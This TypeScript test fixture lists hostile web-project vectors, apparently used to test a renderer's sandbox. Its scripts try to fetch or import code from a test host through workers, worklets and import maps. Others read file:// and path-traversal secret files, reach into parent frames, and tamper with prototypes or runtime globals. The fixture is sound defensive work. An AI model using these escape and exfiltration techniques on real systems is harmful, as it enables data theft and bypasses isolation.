import { host, loadAll, scene } from './hostile-project.ts';
import type { ProjectVectors } from './hostile-project.ts';

const script = (source: string, files = {}) => ({
  body: '<script src="js/main.js"></script>',
  files: { 'js/main.js': source, ...files },
});
const moduleProject = (source: string, files = {}, head = '') => ({
  head,
  body: '<script type="module" src="js/main.mjs"></script>',
  files: { 'js/main.mjs': source, ...files },
});
const mounted = (source: string, files = {}) => ({
  root: host('compositions/a.html'),
  files: { 'compositions/a.html': scene(`<b>x</b><script>${source}</script>`), ...files },
});
const importMap = (imports: object) => `<script type="importmap">${JSON.stringify({ imports })}</script>`;
const WORKER = (address: string) => `fetch('${address}/a.txt').then((a) => a.text()).then(postMessage);`;

/** Workers, modules and mounted documents that have scripts. */
export const SCRIPT_PROJECTS: ProjectVectors = {
  'service-worker': ({ address }) =>
    script(
      "attempt(() => navigator.serviceWorker.register('sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready));",
      { 'sw.js': `onfetch = (event) => event.respondWith(fetch('${address}/a.txt'));` },
    ),
  worker: ({ address }) =>
    script("attempt(() => { new Worker('js/worker.js').onmessage = (event) => leak(event.data); });", {
      'js/worker.js': WORKER(address),
    }),
  'module-worker': ({ address }) =>
    script(
      "attempt(() => { new Worker('js/worker.js', { type: 'module' }).onmessage = (event) => leak(event.data); });",
      { 'js/worker.js': WORKER(address) },
    ),
  'blob-worker': ({ address }) =>
    script(
      `attempt(() => { new Worker(URL.createObjectURL(new Blob([${JSON.stringify(WORKER(address))}]))).onmessage = (event) => leak(event.data); });`,
    ),
  'data-worker': ({ address }) =>
    script(
      `attempt(() => { new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(WORKER(address))})).onmessage = (event) => leak(event.data); });`,
    ),
  'shared-worker': ({ address }) =>
    script(
      "attempt(() => { new SharedWorker('js/worker.js').port.onmessage = (event) => leak(event.data); });",
      { 'js/worker.js': WORKER(address) },
    ),
  'worker-of-a-mounted-document': ({ address }) =>
    mounted("attempt(() => { new Worker('js/worker.js').onmessage = (event) => leak(event.data); });", {
      'js/worker.js': WORKER(address),
    }),
  'paint-worklet': ({ address }) =>
    script("attempt(() => CSS.paintWorklet.addModule('js/worklet.js'));", {
      'js/worklet.js': `import '${address}/a.js'; registerPaint('a', class { paint() {} });`,
    }),
  'audio-worklet': ({ address }) =>
    script("attempt(() => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('js/worklet.js'));", {
      'js/worklet.js': `import '${address}/a.js';`,
    }),
  'module-cycle': () => moduleProject("import './a.mjs';", { 'js/a.mjs': "import './main.mjs';" }),
  'module-of-itself': () => moduleProject("import './main.mjs';"),
  'module-cycle-that-waits': () =>
    moduleProject("await import('./a.mjs');", {
      'js/a.mjs': "await import('./main.mjs'); await new Promise(() => {});",
    }),
  'module-chain': () =>
    moduleProject(
      "import './a0.mjs';",
      Object.fromEntries(
        Array.from({ length: 195 }, (_, index) => [
          `js/a${index}.mjs`,
          index === 194 ? '' : `import './a${index + 1}.mjs';`,
        ]),
      ),
    ),
  'module-of-a-host': ({ address }) => moduleProject(`import '${address}/a.js';`),
  'import-map-of-a-host': ({ address }) =>
    moduleProject("import 'a';", {}, importMap({ a: `${address}/a.js` })),
  'import-map-of-a-file': ({ secretDir }) =>
    moduleProject("import 'a';", {}, importMap({ a: `file://${secretDir}/secret.js` })),
  'import-map-of-data': ({ canaryText }) =>
    moduleProject("import 'a';", {}, importMap({ a: `data:text/javascript,leak('${canaryText}')` })),
  'import-map-of-everything': ({ address }) =>
    moduleProject(
      "import './b.mjs';",
      { 'js/b.mjs': '' },
      importMap({ './': `${address}/`, '/': `${address}/` }),
    ),
  'import-map-by-script': ({ address }) => ({
    script: `add('script', { type: 'importmap', textContent: '{"imports":{"a":"${address}/a.js"}}' }); attempt(() => import('a'));`,
  }),
  'import-map-of-20000-names': () =>
    moduleProject(
      "import 'a1';",
      { 'js/a.mjs': '' },
      importMap(
        Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`a${index}`, './js/a.mjs'])),
      ),
    ),
  'import-by-a-mounted-script': ({ address, secretDir }) =>
    mounted(`${loadAll(`${address}/a.js`)} ${loadAll(`file://${secretDir}/secret.js`)}`),
  'parent-of-a-mounted-script': ({ address, secretDir }) =>
    mounted(
      `attempt(() => parent.fetch('${address}/a.txt').then((a) => a.text()).then(leak)); attempt(() => parent.fetch('file://${secretDir}/secret.txt').then((a) => a.text()).then(leak)); attempt(() => { parent.document.body.innerHTML = '<img src="${address}/a.png">'; }); attempt(() => opener.postMessage(1, '*')); attempt(() => parent.postMessage(1, '*'));`,
    ),
  'other-files-of-a-mounted-script': ({ secretDir }) =>
    mounted(loadAll('../../../secret.txt') + loadAll(`${secretDir}/secret.txt`)),
  'document-written-by-a-mounted-script': ({ address }) =>
    mounted(`document.write('<img src="${address}/a.png"><iframe src="${address}/a.html"></iframe>');`),
  'navigation-by-a-mounted-script': ({ address }) => mounted(`location.href = '${address}/a.html';`),
  'opened-document-of-the-project': ({ canaryText }) =>
    mounted(
      "attempt(() => window.open('compositions/b.html')); add('iframe', { src: 'compositions/b.html' });",
      {
        'compositions/b.html': `<script>leak('${canaryText}')</script>`,
      },
    ),
  'navigation-to-a-document-of-the-project': () =>
    mounted("location.href = 'compositions/b.html';", { 'compositions/b.html': '<p>b</p>' }),
  'prototypes-by-a-mounted-script': () =>
    mounted(
      'Object.prototype.then = (done) => done(1); Array.prototype.map = () => []; JSON.parse = () => ({}); XMLHttpRequest.prototype.open = () => {}; Promise.prototype.then = null;',
    ),
  'prototypes-before-the-mounter': ({ address }) => ({
    head: `<script>DOMParser.prototype.parseFromString = () => document; XMLHttpRequest.prototype.open = function (method) { Object.defineProperties(this, { status: { value: 200 }, responseText: { value: '<template><div data-composition-id="scene"><img src="${address}/a.png"></div></template>' }, send: { value() {} } }); };</script>`,
    root: host('compositions/a.html'),
    files: { 'compositions/a.html': scene('<b>x</b>') },
  }),
  'runtime-removed-by-a-mounted-script': () =>
    mounted(
      'for (const name of Object.getOwnPropertyNames(window)) if (/^__/.test(name)) attempt(() => delete window[name]);',
    ),
  'timelines-that-throw': () =>
    mounted("Object.defineProperty(window, '__timelines', { get() { throw new Error('x'); } });"),
};
